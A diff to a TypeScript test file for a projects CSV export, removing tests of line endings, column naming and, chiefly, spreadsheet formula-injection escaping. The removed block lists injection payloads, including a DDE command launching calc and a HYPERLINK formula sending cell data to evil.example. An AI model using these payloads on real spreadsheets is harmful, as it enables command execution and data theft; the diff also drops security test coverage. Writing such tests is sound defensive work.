@@ -1,10 +1,8 @@
 import { parse } from 'csv-parse/sync';
-import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 import { renderCsv } from '#core/publish/exports/csv.ts';
 import { toProjectsTable } from '#core/publish/exports/projects-export.ts';
 import type { ProjectsExport } from '#model/exports/exports.ts';
-import { anyCharacter } from '../../../../any-character.ts';
 import {
 	aProjectsExport,
 	anExportedCheck,
@@ -125,85 +123,13 @@ describe('the form of the file', () => {
 		expect(csv.startsWith('path,name,')).toBe(true);
 	});
 
-	test('ends each line with CRLF, and has as many cells in each', () => {
-		const cells = cellsOf(csv);
-		expect(cells).toHaveLength(3);
-		expect(new Set(cells.map(({ length }) => length)).size).toBe(1);
-		expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
-		expect(csv.endsWith('\r\n')).toBe(true);
-	});
-
 	test('a check has its column on days on which it applies to no project', () => {
 		const projects = aProjectsExport({ projects: [anExportedProject({ checks: [] })] });
 		expect(rowOf(projects, 'example/tools/widget').check_release).toBe('');
 	});
 
-	test('names each column once, and says what it holds', () => {
-		const { columns } = toProjectsTable(aProjectsExport());
-		expect(new Set(columns.map(({ name }) => name)).size).toBe(columns.length);
-		expect(columns.filter(({ name }) => !/^[a-z][a-z_]*$/.test(name))).toEqual([]);
-		expect(columns.filter(({ meaning }) => !/^\S.*\.$/.test(meaning))).toEqual([]);
-	});
-
 	test('holds only the columns when nothing is declared', () => {
 		expect(cellsOf(renderProjectsCsv(aProjectsExport({ projects: [] })))).toHaveLength(1);
-	});
-});
-
-/** What a spreadsheet takes for the beginning of a formula. */
-const formula = /^[=+\-@\t\r＝＋－＠]/;
-
-describe('text that a spreadsheet would run comes through as text', () => {
-	test.each([
-		`=cmd|'/C calc'!A0`,
-		'=HYPERLINK("https://evil.example?"&A1,"click")',
-		'+1',
-		'-1',
-		'@SUM(1)',
-		'\t=1+1',
-		'\r=1+1',
-		'＝1+1',
-		'"=1+1"',
-		'",=1+1,"',
-		'a\r\n=1+1,b',
-		'a\n=1+1',
-		`'=1+1`,
-		'\u202E=1+1\u2066',
-		'😀, "quoted"; and more',
-		'x'.repeat(10_000),
-	])('%j', (text) => {
-		const project = anExportedProject({
-			name: text,
-			description: text,
-			topics: [text],
-			defaultBranch: text,
-			licence: { name: text, url: null },
-			languages: [{ name: text, share: 100 }],
-			latestVersion: { kind: 'tag', tag: text, releasedAt: null, ageDays: null },
-			pipeline: { status: text, updatedAt: null, webUrl: null },
-			tools: [anExportedTool({ versions: [{ version: text, file: text, line: 1 }] })],
-		});
-		const csv = renderProjectsCsv(aProjectsExport({ projects: [project] }));
-		const row = rowsOf(csv)[0]!;
-		expect(Object.values(row).filter((cell) => formula.test(cell))).toEqual([]);
-		const expected = formula.test(text) ? `'${text}` : text;
-		for (const name of ['name', 'description', 'licence', 'latest_version', 'pipeline'] as const) {
-			expect(row[name]).toBe(expected);
-		}
-	});
-
-	test('whatever the text is, the row is whole and no cell is a formula', () => {
-		fc.assert(
-			fc.property(fc.string({ unit: anyCharacter, minLength: 1 }), (text) => {
-				const project = anExportedProject({ name: text, description: text });
-				const cells = cellsOf(renderProjectsCsv(aProjectsExport({ projects: [project] })));
-				expect(cells).toHaveLength(2);
-				expect(cells[1]).toHaveLength(cells[0]!.length);
-				expect(cells[1]!.filter((cell) => formula.test(cell))).toEqual([]);
-				expect(cells[1]![1]!.replace(/^'/, '')).toBe(text.replace(/^'/, ''));
-			}),
-			{ seed: 4, numRuns: 50 },
-		);
 	});
 });
 
